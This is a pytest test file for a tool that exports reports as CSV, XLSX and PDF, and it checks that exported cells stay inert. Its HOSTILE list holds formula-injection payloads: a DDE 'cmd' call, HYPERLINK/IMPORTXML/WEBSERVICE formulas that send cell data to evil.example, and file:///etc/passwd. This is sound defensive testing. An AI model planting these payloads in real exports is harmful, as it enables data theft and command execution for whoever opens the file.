"""Reports as CSV, XLSX and PDF: values stay what they are, and nothing in them can run."""

import csv
import io
import json
import re
import sys
from datetime import date
from pathlib import Path
from zipfile import ZipFile

import pytest
from conftest import Team
from python_calamine import CalamineWorkbook

from sopctl.render.cells import inert
from sopctl.render.naming import told_apart

SOP = """
id: fair
title: Fair
version: 1.0.0
roles: {lead: Answers for it, designer: Draws}
params: {goal: {type: integer, default: 10}}
phases:
  - id: before
    title: Before
    steps:
      - id: list
        title: List what is needed
        owner: lead
        collect:
          needs:
            type: table
            columns:
              what: longtext
              cost: {type: money, currency: EUR}
              on: date
              sure: bool
              secret: {type: longtext, internal: true}
          remark: longtext
      - id: draw
        title: Draw the page
        owner: designer
        collect: {moment: datetime, hush: {type: text, internal: true}}
      - id: numbers
        title: Read the numbers
        owner: lead
        collect:
          ways: {type: funnel, stages: [saw, opened]}
          balance: {type: number, target: ">= goal", unit: points}
"""
# Each would be a formula, a link or a command to one spreadsheet or another.
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/c calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    '"=1+1',
    '""=1+1',
    '" =1+1',
    "\u201c=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "−1+1",
    "x;=1+1",
    "x; @SUM(A1)",
    'x;"=1+1',
    "x\n=1+1",
    "x\t=1+1",
    '","=1+1',
    '"\n"=1+1',
    "%0A-3+3+cmd|' /C calc'!D2",
    "http://evil.example/",
    "file:///etc/passwd",
    "mailto:a@example.com",
    "internal:Steps!A1",
    "{=1+1}",
    "_x003D_1+1",
    "\x00=1",
    "\x1b[31m=1",
    "\u202e=1",
    "=" * 40_000,
    "long " * 8_000,
]  # fmt: skip
STARTS = re.compile("^[\\s\"'\u201c\u2018]*[=+\\-@＝＋－＠−]")


@pytest.fixture
def fair(team: Team) -> Team:
    """A run with a table, a funnel, a number below nought, and internal answers."""
    team.sop("fair", SOP)
    team.new("fair", roles={"lead": "Li <li@example.com>", "designer": "Chen <chen@example.com>"})
    team.rows("r", "list", "needs", [
        {"what": "Stage", "cost": 1200.5, "on": "2027-03-18", "sure": True, "secret": "zqhidden"},
        {"what": "帐篷", "cost": 80},
    ])  # fmt: skip
    team("set", "r", "draw", "moment=2027-03-18 14:30", "hush=zqhidden")
    team("set", "r", "numbers", "ways=120 30", "balance=-5.5")
    return team


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def book(path: Path) -> dict[str, list[list[object]]]:
    found = CalamineWorkbook.from_path(path)
    return {name: found.get_sheet_by_name(name).to_python() for name in found.sheet_names}


def test_csv_has_a_row_for_each_step(fair: Team) -> None:
    """Without another word CSV is the table of steps, under names that programs can rely on."""
    fair("done", "r", "list")
    head, *found = rows(fair("report", "--format", "csv"))
    assert head[:8] == ["step", "title", "phase", "group", "status", "owner", "person", "due"]
    assert [row[0] for row in found] == ["list", "draw", "numbers"]
    assert found[0][4:7] == ["done", "lead", "Li <li@example.com>"]
    assert fair("report", "--table", "steps") == fair("report", "--format", "csv")


def test_csv_of_fields_and_of_one_table(fair: Team) -> None:
    """Every answer has a row; a table and a funnel have one of their own, numbers as numbers."""
    found = {row["field"]: row for row in csv.DictReader(io.StringIO(fair("report", "--table", "fields")))}
    assert found["balance"]["value"] == "-5.5"
    assert (found["balance"]["unit"], found["balance"]["target"], found["balance"]["met"]) == (
        "points", ">= 10", "no",
    )  # fmt: skip
    assert (found["needs"]["value"], found["needs"]["unit"]) == ("2", "rows")
    assert found["moment"]["value"] == "2027-03-18 14:30"
    assert rows(fair("report", "--table", "list.needs")) == [
        ["what", "cost", "on", "sure", "secret"],
        ["Stage", "1200.5", "2027-03-18", "yes", "zqhidden"],
        ["帐篷", "80", "", "", ""],
    ]
    assert rows(fair("report", "--table", "numbers.ways"))[1:] == [
        ["saw", "120", ""],
        ["opened", "30", "0.25"],
    ]
    fair("report", "--table", "list.need", code=2)
    assert "did you mean list.needs" in fair.err


def test_csv_in_a_folder(fair: Team) -> None:
    """A folder gets every table in a file of its own, which Excel reads as UTF-8; stdout has no mark."""
    fair("report", "-o", "out/")
    found = sorted(path.name for path in Path("out").iterdir())
    assert found == ["fields.csv", "list.needs.csv", "numbers.ways.csv", "steps.csv"]
    written = Path("out/list.needs.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbf")
    assert written.decode("utf-8-sig") == fair("report", "--table", "list.needs")
    fair("report", "-o", "out/")  # a second time writes them anew
    fair("report", "--table", "list.needs", "-o", "one.csv")
    assert Path("one.csv").read_bytes() == written


@pytest.mark.parametrize(
    "words",
    [
        ("--format", "html", "-o", "out/"),
        ("--format", "json", "--table", "steps"),
        ("--table", "steps", "-o", "out/"),
        ("--table", "steps", "-o", "out.html"),
        ("-o", "nowhere/out/"),
    ],
)
def test_what_does_not_go_together_is_refused(fair: Team, words: tuple[str, ...]) -> None:
    """A folder or one table is for CSV alone; each refusal is one message."""
    fair("report", *words, code=2)
    assert fair.err.startswith("sopctl: ")
    assert not Path("out").exists()


def test_a_workbook_has_numbers_and_days(fair: Team) -> None:
    """One workbook: summary, steps, fields, each table; read back, values are what they were."""
    fair("report", "-o", "r.xlsx")
    found = book(Path("r.xlsx"))
    assert [*found] == ["Summary", "Steps", "Fields", "list.needs", "numbers.ways"]
    assert found["list.needs"][1] == ["Stage", 1200.5, date(2027, 3, 18), True, "zqhidden"]
    assert found["numbers.ways"][2] == ["opened", 30.0, 0.25]
    balance = next(row for row in found["Fields"] if row[2] == "balance")
    assert balance[4:8] == [-5.5, "points", ">= 10", False]
    assert [row[4] for row in found["Steps"][1:]] == ["ready", "ready", "ready"]
    first = Path("r.xlsx").read_bytes()
    fair("report", "-o", "r.xlsx")
    assert Path("r.xlsx").read_bytes() == first
    with ZipFile("r.xlsx") as file:
        assert b'state="frozen"' in file.read("xl/worksheets/sheet2.xml")


def test_the_audience_says_which_rows(fair: Team) -> None:
    """A department has its own steps alone, in every table; outside gets nothing internal and no names."""
    assert [
        row[0] for row in rows(fair("report", "--for", "department:designer", "--format", "csv"))[1:]
    ] == ["draw"]
    fair("report", "--for", "department:designer", "-o", "mine/")
    assert sorted(path.name for path in Path("mine").iterdir()) == ["fields.csv", "steps.csv"]
    fair("report", "--for", "outside", "-o", "out/")
    fair("report", "--for", "outside", "-o", "out.xlsx")
    told = "".join(path.read_text() for path in Path("out").iterdir()) + repr(book(Path("out.xlsx")))
    assert "Stage" in told
    for hidden in ("zqhidden", "secret", "hush", "li@example.com", "chen@example.com"):
        assert hidden not in told


def test_nothing_hostile_becomes_a_formula(fair: Team) -> None:
    """No text of an answer is a formula or a link, in CSV or in a workbook; all of it is still there."""
    hostile = [text for text in HOSTILE if len(text) < 20_000]
    fair.rows("r", "list", "needs", [{"what": text, "secret": text} for text in hostile])
    fair("report", "-o", "out/")
    for path in Path("out").iterdir():
        for row in rows(path.read_text("utf-8-sig")):
            for cell in row:
                assert not STARTS.match(cell) or cell.startswith("'") or re.fullmatch(r"-?[\d.]+", cell), cell
                assert not re.search("[\x00-\x1f\x7f\u202e\u200b]", cell)
    fair("report", "-o", "r.xlsx")
    with ZipFile("r.xlsx") as file:
        for name in file.namelist():
            text = file.read(name).decode("utf-8")
            assert "<f>" not in text
            assert "<hyperlink" not in text
            assert "externalLink" not in name
            assert "evil.example" not in text or name == "xl/sharedStrings.xml"
    texts = [row[0] for row in book(Path("r.xlsx"))["list.needs"][1:]]
    assert len(texts) == len(hostile)
    assert "=1+1" in texts
    assert "_x003D_1+1" in texts


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:12]))
def test_a_cell_of_csv_is_inert(text: str) -> None:
    """Neither the cell nor a piece of it behind a semicolon begins as a formula does."""
    found = inert(text)
    for piece in found.split(";"):
        plain = piece.strip(" \"'\u201c\u2018") if not piece.lstrip().startswith("'") else ""
        assert not plain.startswith(tuple("=+-@＝＋－＠−")), found


def test_long_texts_fit_into_a_cell(fair: Team) -> None:
    """A text of more signs than a cell of Excel holds is cut in a workbook, and whole in CSV."""
    fair("set", "r", "list", f"remark={'字' * 40_000}")
    fair("report", "-o", "r.xlsx")
    remark = next(row for row in book(Path("r.xlsx"))["Fields"] if row[2] == "remark")
    assert remark[4] == "字" * 32_766 + "…"
    assert "字" * 40_000 in fair("report", "--table", "fields")


def test_names_are_told_apart() -> None:
    """Names of sheets and files are short, plain, and differ in more than capitals."""
    long = "a-step-with-a-long-name.and-a-field"
    names = [f"{long}1", f"{long}2", "A/b", "a:B", "a_b", "步骤", "'x'", "../../etc/passwd", "", " "]
    found = told_apart(names, r"[\[\]:*?/\\']", 31)
    assert len({name.casefold() for name in found}) == len(names)
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\'") for name in found)
    assert found[:3] == [long[:31], long[:29] + "~2", "A_b"]


def test_sheets_speak_the_language_of_the_sop(fair: Team) -> None:
    """Sheets and heads of a Chinese SOP are Chinese; the names of CSV columns never change."""
    fair.sop("zh", SOP.replace("id: fair", "id: zh\nlanguage: zh"))
    fair.new("zh", run="z", roles={"lead": "Li <li@example.com>", "designer": "Chen <chen@example.com>"})
    fair("report", "z", "-o", "z.xlsx")
    found = book(Path("z.xlsx"))
    assert [*found][:3] == ["摘要", "步骤", "字段"]
    assert found["步骤"][0][0] == "步骤"
    assert rows(fair("report", "z", "--format", "csv"))[0][:2] == ["step", "title"]


def test_without_the_extra_one_message(fair: Team, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where XlsxWriter or WeasyPrint is not installed, the message says how to get it."""
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    fair.write("lib/weasyprint.py", "raise ImportError")  # for the process that makes PDFs
    monkeypatch.syspath_prepend(fair.folder / "lib")
    for form in ("xlsx", "pdf"):
        fair("report", "-o", f"r.{form}", code=2)
        assert f"pip install 'sopctl[{form}]'" in fair.err
        assert not Path(f"r.{form}").exists()


@pytest.mark.parametrize(
    "audience",
    [
        "leadership",
        *(
            pytest.param(one, marks=pytest.mark.slow)
            for one in ("team", "department:lead", "auditor", "outside")
        ),
    ],
)
def test_every_audience_has_a_pdf(fair: Team, audience: str) -> None:
    """The page of each audience is made into a PDF, the same each time."""
    pytest.importorskip("weasyprint")
    fair("report", "--for", audience, "-o", "r.pdf", "--on", "2099-01-01")
    first = Path("r.pdf").read_bytes()
    assert first.startswith(b"%PDF-")
    fair("report", "--for", audience, "-o", "r.pdf", "--on", "2099-01-01")
    assert Path("r.pdf").read_bytes() == first


def test_values_of_older_versions_do_not_stop_tables(fair: Team) -> None:
    """What a journal holds that fits its field no more, or no spreadsheet, is told as text."""
    journal = next(Path("runs/r/journal").glob("*.jsonl"))
    assert journal.stat().st_size
    for value in ("1899-12-31", "0001-01-01"):
        fair.rows("r", "list", "needs", [{"what": "Old", "on": value}])
        fair("report", "-o", "r.xlsx")
        assert book(Path("r.xlsx"))["list.needs"][1][2] == value
    assert json.loads(fair("report", "--format", "json"))["format"] == 1
